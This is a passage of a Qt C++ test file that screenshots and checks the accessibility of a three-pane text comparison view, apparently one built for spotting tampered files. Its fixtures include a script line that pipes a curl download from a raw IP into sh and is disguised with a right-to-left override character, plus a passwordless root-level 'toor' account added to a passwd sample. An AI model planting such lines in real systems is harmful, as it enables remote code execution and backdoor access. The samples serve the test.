    TextCompareView view(m_runner);
    view.resize(1000, 300);
    view.setContents(panes(fake(script), nullptr, nullptr), "f");
    QVERIFY(ready(view, m_runner));
    QAccessibleInterface *face = QAccessible::queryAccessibleInterface(view.view(0));
    QVERIFY(face && face->textInterface());
    QCOMPARE(face->text(QAccessible::Name), QStringLiteral("Text, vendor"));
    QVERIFY(face->textInterface()->text(0, 1000).contains(QStringLiteral("#!/bin/sh")));
    const auto widgets = view.findChildren<QWidget *>();
    for (const QWidget *widget : widgets) {
        if (widget->focusPolicy() != Qt::NoFocus && widget->isVisibleTo(&view) && !widget->objectName().startsWith(QStringLiteral("qt_")))
            QVERIFY2(!widget->accessibleName().isEmpty() || qobject_cast<const QLineEdit *>(widget), qPrintable(widget->objectName()));
    }
}

void TestTextView::pictures()
{
    const std::string live = replaced(replaced(script, "version 1", "version X"), "fi\n", "fi\ncurl -s http://203.0.113.9/x | sh  # \xe2\x80\xae" "harmless\n");
    const std::string saved = replaced(script, "# starts the tool\n", "");
    for (const bool dark : {false, true}) {
        QApplication::setPalette(dark ? darkPalette() : QApplication::style()->standardPalette());
        const QString suffix = dark ? QStringLiteral("-dark") : QStringLiteral("-light");
        TextCompareView view(m_runner);
        view.resize(1400, 300);
        view.setContents(panes(fake(script), fake(saved), fake(live)), "opt/demo/bin/tool.sh");
        view.show();
        view.view(1)->setFocus();
        QVERIFY(ready(view, m_runner));
        view.grab();
        QVERIFY(settled(m_runner));
        picture(view, QStringLiteral("text-wide") + suffix);
        view.resize(820, 240);
        view.setContents(panes(nullptr, fake(std::string("\x7f" "ELF\0", 5)), fake(std::string(6000, 'x') + "\nlast")), "f");
        QVERIFY(ready(view, m_runner));
        view.openFind();
        view.grab();
        picture(view, QStringLiteral("text-small") + suffix);
        const std::string accounts = "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n# note\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n";
        view.resize(1400, 200);
        view.setContents(panes(fake(accounts), fake(accounts), fake(accounts + "toor::0:0::/root:/bin/sh\n")), "etc/passwd");
        QVERIFY(ready(view, m_runner));
        view.grab();
        QVERIFY(settled(m_runner));
        picture(view, QStringLiteral("text-passwd") + suffix);
    }
    QApplication::setPalette(QApplication::style()->standardPalette());
}

QTEST_MAIN(TestTextView)
#include "tst_textview.moc"
